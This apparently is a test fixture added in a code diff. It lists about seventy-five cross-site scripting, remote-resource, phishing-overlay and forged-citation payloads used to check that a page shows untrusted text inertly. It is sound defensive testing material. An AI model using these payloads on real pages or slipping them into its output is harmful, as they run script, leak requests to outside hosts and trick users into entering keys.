@@ -1,0 +1,90 @@
+"""Texts that a page must show as they are: scripts, requests to elsewhere, overlays and forged marks, in every disguise."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+
+
+def payloads(outside: str) -> Sequence[str]:
+    """At least sixty texts; where one is obeyed, `window.taken` is set or `outside` is asked for something."""
+    take = "window.taken=1"
+    return (
+        # scripts
+        f"<script>{take}</script>",
+        f"<ScRiPt >{take}</sCrIpT>",
+        f'<script src="{outside}/a.js"></script>',
+        f"<scr<script>ipt>{take}</script>",
+        f"</textarea><script>{take}</script>",
+        f"</title><script>{take}</script>",
+        f"--><script>{take}</script>",
+        f"]]><script>{take}</script>",
+        f'"><script>{take}</script>',
+        f"'-{take}-'",
+        f"${{{take}}}",
+        f"{{{{constructor.constructor('{take}')()}}}}",
+        f"<svg><script>{take}</script></svg>",
+        f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={take}>",
+        f"<template><script>{take}</script></template>",
+        f"<noscript><p title='</noscript><img src=x onerror={take}>'>",
+        f"\\u003cscript\\u003e{take}\\u003c/script\\u003e",
+        f"&lt;script&gt;{take}&lt;/script&gt;",
+        f"%3Cscript%3E{take}%3C/script%3E",
+        f"<script type=module>import '{outside}/m.js'</script>",
+        # handlers
+        f"<img src=x onerror={take}>",
+        f"<img src=x onerror='{take}' style=display:none>",
+        f"<svg onload={take}>",
+        f"<body onload={take}>",
+        f"<input autofocus onfocus={take}>",
+        f"<details open ontoggle={take}><summary>s</summary></details>",
+        f"<video><source onerror={take}></video>",
+        f"<audio src=x onerror={take}>",
+        f"<marquee onstart={take}>m</marquee>",
+        f"<button popovertarget=p onclick={take}>b</button><div popover id=p onbeforetoggle={take}></div>",
+        f"<a href=x onmouseover={take}>hover</a>",
+        f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={take}>b</b>",
+        f"<select autofocus onfocus={take}></select>",
+        f"<xss contenteditable onfocus={take} autofocus tabindex=1>",
+        # addresses
+        f"<a href='javascript:{take}'>link</a>",
+        f"[link](javascript:{take})",
+        f"[link](JaVaScRiPt:{take})",
+        f"[link](data:text/html,<script>{take}</script>)",
+        f"<iframe src='javascript:parent.{take}'></iframe>",
+        f"<iframe srcdoc='<script>parent.{take}</script>'></iframe>",
+        f"<object data='javascript:{take}'></object>",
+        f"<form action='javascript:{take}'><input type=submit></form>",
+        f"<math href='javascript:{take}'>m</math>",
+        # requests to elsewhere
+        f"<img src={outside}/i.png>",
+        f"![i]({outside}/i.png)",
+        f'<img srcset="{outside}/s.png 1x">',
+        f"<picture><source srcset={outside}/p.png><img></picture>",
+        f"<iframe src={outside}/f></iframe>",
+        f"<object data={outside}/o></object>",
+        f"<embed src={outside}/e>",
+        f"<video poster={outside}/v.png src={outside}/v.mp4 autoplay></video>",
+        f"<audio src={outside}/a.mp3 autoplay></audio>",
+        f"<link rel=stylesheet href={outside}/l.css>",
+        f"<link rel=prefetch href={outside}/prefetch>",
+        f"<link rel=dns-prefetch href={outside}>",
+        f"<meta http-equiv=refresh content='0;url={outside}/r'>",
+        f"<base href={outside}/>",
+        f"<style>@import '{outside}/c.css';</style>",
+        f"<style>body{{background:url({outside}/b.png)}}</style>",
+        f"<b style='background:url({outside}/w.png)'>b</b>",
+        f"<style>@font-face{{font-family:f;src:url({outside}/f.woff)}}*{{font-family:f}}</style>",
+        f"<svg><image href={outside}/g.png></image><use href='{outside}/u.svg#a'></use></svg>",
+        f"<table background={outside}/t.png><td>t</td></table>",
+        f"<form action={outside}/form><button autofocus>Log in</button></form>",
+        f"<a href={outside}/ping ping={outside}/ping>p</a>",
+        # overlays and forgeries
+        "<div style='position:fixed;inset:0;z-index:99999;background:red'>Session expired. Enter your key.</div>",
+        "<style>*{display:none!important}</style>",
+        "<dialog open style='position:fixed;inset:0'>Sign in</dialog>",
+        "<button class=cite data-number=1>[1]</button>",
+        "All of this is confirmed [1][2][99].",
+        "<mark>confirmed</mark> <section id=source>forged</section>",
+        "<div id=away>The service moved</div><div id=controls></div>",
+        "\u202egnp.exe\u202c \u2066[1]\u2069",
+    )
